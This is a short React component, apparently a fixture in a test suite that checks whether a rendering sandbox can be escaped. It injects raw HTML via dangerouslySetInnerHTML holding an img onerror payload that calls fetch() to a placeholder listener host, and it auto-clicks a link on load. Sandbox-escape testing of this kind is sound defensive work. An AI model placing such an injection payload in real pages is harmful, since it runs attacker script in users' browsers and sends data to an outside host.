import { useEffect } from "react";

// Escape attempt: jsx_raw_html
export default function Hostile() {
  useEffect(() => {
    const link = document.getElementById("go");
    if (link) link.click();
  }, []);
  return (
    <div>
      <p data-testid="hostile">jsx_raw_html</p>
      <div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=\"fetch('__LISTENER__/jsx_raw_html')\">" }} />
    </div>
  );
}
